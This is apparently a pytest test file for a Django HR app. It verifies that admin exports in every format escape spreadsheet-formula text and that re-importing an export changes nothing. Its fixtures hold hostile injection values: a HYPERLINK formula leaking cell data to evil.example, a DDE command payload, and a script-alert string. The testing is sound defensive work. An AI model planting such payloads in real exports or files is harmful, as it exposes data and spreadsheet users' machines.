"""Every export writes text a spreadsheet would run as a formula with a leading ' (OWASP CSV
injection): the per-list admin exports in every format the admin offers, for every resource,
with hostile values in every kind of column (text, choice, reference, references), read back
from the files; and what the import reads back is the original text."""
import csv
import io
import json
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from conftest import make_department, make_position, task_file
from departments.models import Department, DepartmentDuty, DepartmentPolicy
from jobs.models import KPI, Authority, Duty, JobFamily, JobLevel, Position, Qualification, WorkRecord, WorkRelation
from kernel.formulas import FORMULA_PREFIXES

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
HOSTILE_TEXTS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "=1+1<script>alert(1)</script>"]
ADMINS = ["jobs_position", "departments_department", "jobs_joblevel", "jobs_jobfamily"]


@pytest.fixture
def hostile(db):
    """Codes are letters, digits and - _ . (a code may still start with "-"); job level and family
    codes are free text; every text field starts with a formula character; one choice holds a
    value that is no choice at all."""
    level = JobLevel.objects.create(code=FORMULA[:16], name="@总监级", rank=1)
    family = JobFamily.objects.create(code="+SUM(1)", name="=营销序列")
    top = make_department("=集团", code="-G", mission=HOSTILE_TEXTS[1], nature=HOSTILE_TEXTS[4])
    market = make_department("@市场部", parent=top, code="-A1", staffing_plan=HOSTILE_TEXTS[2])
    Department.objects.filter(pk=market.pk).update(kind="=cmd|' /C calc'")  # max_length 16
    head = make_position(top, "=总经理", code="-CEO", summary=FORMULA, job_level=level, family=family, salary_grade="+M3")
    other = make_position(market, "-市场总监", code="-B2", reports_to=head, remarks="@备注", job_level=level)
    head.promotion_targets.add(other)
    other.lateral_moves.add(head)
    top.head_position = head
    top.save()
    Qualification.objects.create(position=head, major=FORMULA, skills="+技能", education_note="-说明")
    Duty.objects.create(position=head, statement=FORMULA, tasks="+任务", standard="@标准", order=1)
    Authority.objects.create(position=head, text="=权限", order=1)
    KPI.objects.create(position=head, name="-指标", definition=FORMULA, target="+100", data_source="@财务部", order=1)
    WorkRelation.objects.create(position=head, party="=财务部", content=FORMULA, order=1)
    WorkRecord.objects.create(position=head, document="@报告", timing="=月末", recipient="+总经理", order=1)
    DepartmentDuty.objects.create(department=top, function="=销售管理", text=FORMULA, order=1)
    DepartmentPolicy.objects.create(department=top, title="+总则", body=FORMULA, order=1)


def export_form(client, name):
    response = client.get(reverse(f"admin:{name}_export"))
    assert response.status_code == 200
    return response.context["form"]


def exported_files(client, name):
    """(resource index, format name, bytes) for every resource and format the admin offers."""
    form = export_form(client, name)
    formats = dict(form.fields["format"].choices)
    resources = [str(value) for value, _label in form.fields["resource"].choices]
    for resource in resources:
        checked = {field: "on" for field, item in form.fields.items() if getattr(item, "resource_index", None) == int(resource)}
        for index, label in formats.items():
            if index == "":
                continue
            response = client.post(reverse(f"admin:{name}_export"), {"format": index, "resource": resource, **checked})
            assert response.status_code == 200 and response.get("Content-Disposition", "").startswith("attachment"), (name, label)
            yield resource, label.lower(), response.content


def cells(format_name, content):
    """Every cell of an exported file as the program that opens it would see it: (text, is_formula)."""
    if format_name == "xlsx":
        workbook = load_workbook(io.BytesIO(content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    yield cell.value, cell.data_type == "f"
    elif format_name in ("csv", "tsv"):
        text = content.decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text), delimiter="\t" if format_name == "tsv" else ","):
            for value in row:
                yield value, False
    elif format_name == "json":
        for record in json.loads(content):
            for value in record.values():
                yield value, False
    elif format_name == "html":
        parser = CellParser()
        parser.feed(content.decode())
        assert not parser.tags - {"table", "thead", "tbody", "tr", "th", "td"}, parser.tags
        yield from ((value, False) for value in parser.cells)
    else:
        raise AssertionError(f"an export format this test does not read: {format_name}")


class CellParser(HTMLParser):
    def __init__(self):
        super().__init__()
        self.cells, self.tags, self._cell = [], set(), None

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag in ("td", "th"):
            self._cell = ""

    def handle_endtag(self, tag):
        if tag in ("td", "th"):
            self.cells.append(self._cell)
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None:
            self._cell += data


@pytest.mark.parametrize("name", ADMINS)
def test_every_admin_export_escapes_every_text_cell_in_every_format(hr_client, hostile, name):
    seen_formats, escaped = set(), 0
    for _resource, format_name, content in exported_files(hr_client, name):
        seen_formats.add(format_name)
        for value, is_formula in cells(format_name, content):
            assert not is_formula, (name, format_name, value)
            if isinstance(value, str):
                assert not value.startswith(FORMULA_PREFIXES), (name, format_name, value)
                escaped += value.startswith("'") and value[1:2] in FORMULA_PREFIXES
    assert {"csv", "xlsx"} <= seen_formats and escaped


def test_codes_of_references_are_escaped_and_read_back(hr_client, hostile):
    files = {(resource, fmt): content for resource, fmt, content in exported_files(hr_client, "jobs_position")}
    rows = list(csv.DictReader(io.StringIO(files[("0", "csv")].decode("utf-8-sig"))))
    by_code = {row["岗位编号"]: row for row in rows}
    assert set(by_code) == {"'-CEO", "'-B2"}
    assert by_code["'-B2"]["直接上级"] == "'-CEO" and by_code["'-B2"]["所在部门"] == "'-A1"
    assert by_code["'-CEO"]["职务等级"] == "'" + FORMULA[:16] and by_code["'-CEO"]["可晋升职位"] == "'-B2"
    duties = list(csv.DictReader(io.StringIO(files[("2", "csv")].decode("utf-8-sig"))))
    assert duties[0]["岗位编号"] == "'-CEO" and duties[0]["职责描述"] == "'" + FORMULA


@pytest.mark.parametrize("resource, fmt", [("0", "csv"), ("0", "xlsx"), ("2", "csv"), ("2", "xlsx")])
def test_importing_an_export_back_changes_nothing(hr_client, hostile, resource, fmt):
    files = {(r, f): content for r, f, content in exported_files(hr_client, "jobs_position")}
    form = hr_client.get(reverse("admin:jobs_position_import")).context["form"]
    format_index = next(value for value, label in form.fields["format"].choices if label.lower() == fmt)
    before = (list(Position.history.values_list("history_id", flat=True)), list(Duty.history.values_list("history_id", flat=True)))
    response = hr_client.post(reverse("admin:jobs_position_import"), {
        "resource": resource, "format": format_index, "import_file": SimpleUploadedFile(f"export.{fmt}", files[(resource, fmt)]),
    })
    assert response.status_code == 200
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), [
        (e.number, e.error) for e in result.invalid_rows
    ] + [str(err.error) for _number, errors in result.row_errors() for err in errors]
    assert all(row.import_type == "skip" for row in result.rows)
    hr_client.post(reverse("admin:jobs_position_process_import"), response.context["confirm_form"].initial)
    after = (list(Position.history.values_list("history_id", flat=True)), list(Duty.history.values_list("history_id", flat=True)))
    assert after == before
    assert Position.objects.get(code="-B2").reports_to.code == "-CEO"


def test_the_organisation_workbook_export_escapes_every_text_cell(hr_client, hostile):
    for name in ("export_workbook", "workbook_example"):
        response = hr_client.get(reverse(f"admin:jobs_position_{name}"))
        content = task_file(hr_client, response) if name == "export_workbook" else response.content
        values = list(cells("xlsx", content))
        assert not any(is_formula for _value, is_formula in values)
        assert not any(isinstance(v, str) and v.startswith(FORMULA_PREFIXES) for v, _f in values)
